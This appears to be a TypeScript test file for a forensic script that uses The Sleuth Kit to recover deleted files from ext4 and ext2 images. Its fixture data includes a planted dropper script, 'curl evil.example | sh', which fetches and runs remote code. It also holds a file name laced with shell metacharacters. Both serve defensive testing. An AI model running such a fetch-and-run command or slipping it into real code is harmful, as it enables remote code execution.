import { execFileSync, spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { HostScript } from '@cordon/core';
import { composeCommand } from '@cordon/core/aws';
import { SimulatedHost } from '@cordon/testkit';
import { describe, expect, it, onTestFinished } from 'vitest';
import script from '../../src/deleted/deleted-files.sh';
import { KEY, privateRoot } from '../world/host-run.js';

const LOOK: HostScript = { name: 'deleted-files', text: script };
const VOLUME = 'vol-0123456789abcdef0';
const MOUNT = `/mnt/evidence/${VOLUME}/nvme0n1p1`;
const SECRET = '#!/bin/sh\ncurl evil.example | sh\n';
const MIB = 2 ** 20;

const has = (tool: string) => spawnSync('which', [tool]).status === 0;
const missing = ['fls', 'ils', 'icat', 'mke2fs', 'debugfs'].filter((tool) => !has(tool));

/** A real ext4 as it lies on a disk: one file deleted, one deleted and still open, one written over. */
async function ext4Image(type: 'ext4' | 'ext2') {
  const folder = await privateRoot();
  const tree = join(folder, 'tree');
  mkdirSync(join(tree, 'var/tmp'), { recursive: true });
  for (const [name, text] of [
    ['var/tmp/.dropper', SECRET],
    ['var/tmp/miner', `ELF${'x'.repeat(5000)}`],
    ['var/tmp/a|b;"c\n', 'odd'],
    ['var/tmp/zeros', '\0'.repeat(3000)],
    ['kept', 'kept'],
  ] as const)
    writeFileSync(join(tree, name), text);
  const image = join(folder, 'image');
  execFileSync('mke2fs', ['-q', '-t', type, '-d', tree, image, '16M']);
  const commands = [
    'rm /var/tmp/.dropper',
    'rm /var/tmp/zeros',
    // As the kernel has it while a program that was deleted runs on: no name, no link, still allocated.
    'set_inode_field /var/tmp/miner links_count 0',
    'unlink /var/tmp/miner',
  ];
  for (const command of commands) execFileSync('debugfs', ['-w', '-R', command, image], { stdio: 'ignore' });
  for (const path of [folder, image]) chmodSync(path, 0o755);
  return image;
}

function forensicHost({ kit = 'present' }: { readonly kit?: 'present' | 'absent' }): SimulatedHost {
  const host = new SimulatedHost({
    name: 'i-0aaaaaaaaaaaaaaa1',
    now: () => new Date('2026-11-20T05:00:00Z'),
    plant: (root) => {
      for (const path of ['proc', 'var/tmp']) mkdirSync(join(root, path), { recursive: true });
      for (const [name, text] of [
        ['mounts', ''],
        ['stat', 'btime 1795000000\n'],
        ['uptime', '1.00 1.00\n'],
      ] as const)
        writeFileSync(join(root, 'proc', name), text);
    },
    machine: { sleuthKit: kit },
  });
  onTestFinished(() => host.dispose());
  return host;
}

/** The script with other limits than its own. */
function limited(limits: readonly (readonly [string, number])[]): HostScript {
  const change = (text: string, [name, to]: readonly [string, number]) =>
    text.replace(new RegExp(`^${name}=.*`, 'm'), `${name}=${to}`);
  return { ...LOOK, text: limits.reduce(change, script) };
}

async function look(options: {
  readonly image?: string;
  readonly filesystem?: string;
  readonly kit?: 'absent';
  readonly maxFile?: number;
  readonly limits?: Parameters<typeof limited>[0];
}) {
  const { image, filesystem = 'ext4', maxFile: maxfile = MIB, limits = [] } = options;
  const host = forensicHost(options);
  const fs = { type: 'ext4', uuid: '', folder: '', sizeBytes: 16 * MIB, number: 1 } as const;
  const partition = image === undefined ? fs : { ...fs, image };
  host.devices.attach({ volumeId: VOLUME, sizeBytes: 32 * MIB, partitions: [partition] });
  const parts = `${VOLUME}|nvme0n1p1|${filesystem}|${MOUNT}`;
  const run = await host.run(composeCommand(limited(limits), KEY, { parts, maxfile, maxtotal: 10 * MIB }));
  expect(run).toMatchObject({ exitCode: 0 });
  const answer: Record<string, string> = JSON.parse(run.stdout.trimEnd());
  const unpacked = await privateRoot();
  const archive = join(host.root, `var/tmp/cordon-${KEY}/${VOLUME}.tar.gz`);
  if (existsSync(archive)) execFileSync('tar', ['-xzf', archive, '-C', unpacked]);
  const folder = join(unpacked, VOLUME, 'nvme0n1p1');
  const read = (path: string) => readFileSync(join(folder, path), 'utf8');
  return {
    answer,
    read,
    contents: () => readdirSync(join(folder, 'content')).map((name) => read(`content/${name}`)),
  };
}

describe.skipIf(missing.length > 0)(`deleted files (without: ${missing.join(', ') || 'nothing'})`, () => {
  it.each(['ext4', 'ext2'] as const)(
    'of %s are found with name, inode and times, and read back',
    async (type) => {
      const image = await ext4Image(type);
      const { answer, read, contents } = await look({ image, filesystem: type });
      expect(answer).toMatchObject({ available: '1', unread: '' });
      expect(answer[VOLUME]).toMatch(/^\d+ [0-9a-f]{64} \d+ 2$/);
      expect(read('names.body')).toMatch(
        /\|\/var\/tmp\/\.dropper \(deleted\)\|\d+\|r\/.*\|\d{10}\|\d{10}\|\d{10}\|/,
      );
      expect(read('names.body')).not.toContain('kept');
      expect(contents().toSorted()).toEqual([SECRET, `ELF${'x'.repeat(5000)}`].toSorted());
    },
  );

  it('that were deleted and are still open are told apart: of current ext4 they are what is whole', async () => {
    const { read } = await look({ image: await ext4Image('ext4') });
    const rows = read('open.txt')
      .split('\n')
      .filter((line) => /^\d/.test(line) && !line.endsWith('|0'));
    expect(rows).toHaveLength(1);
    const inode = rows[0]?.split('|')[0] ?? '';
    expect(read(`content/${inode}`)).toMatch(/^ELF/);
  });

  it('of a damaged file system cost that one partition, by name', async () => {
    const image = await ext4Image('ext4');
    writeFileSync(image, Buffer.alloc(16 * MIB));
    const { answer } = await look({ image });
    expect(answer).toEqual({ available: '1', unread: `${VOLUME}|nvme0n1p1|fls cannot read it;` });
  });

  const left = '2 of them did not fit, or there was no time left to read them back';
  it.each([
    ['larger than may be', { maxFile: 1000 }, left],
    ['more than may be', { limits: [['MAX_INODES', 1]] }, left],
    ['more than the time allows', { limits: [['LOOK_SECONDS', -1]] }, 'there was no time left to look at it'],
    ['listed without end', { limits: [['LIST_BYTES', 60]] }, 'the list of deleted names was cut at 60 bytes'],
  ] as const)('that are %s are said to be missing', async (_, options, reason) => {
    const { answer } = await look({ image: await ext4Image('ext2'), filesystem: 'ext2', ...options });
    expect(answer['unread']).toContain(`${VOLUME}|nvme0n1p1|${reason};`);
  });

  it('are kept as far as their list goes, where it has no end', async () => {
    const { read } = await look({ image: await ext4Image('ext4'), limits: [['LIST_BYTES', 60]] });
    expect(read('names.body')).toHaveLength(60);
  });

  it('of XFS are said not to be read', async () => {
    const { answer } = await look({ filesystem: 'xfs' });
    expect(answer['unread']).toBe(`${VOLUME}|nvme0n1p1|The Sleuth Kit does not read xfs;`);
  });
});

it('says so where there is no Sleuth Kit', async () => {
  const { answer } = await look({ kit: 'absent' });
  expect(answer).toEqual({ available: '0' });
});
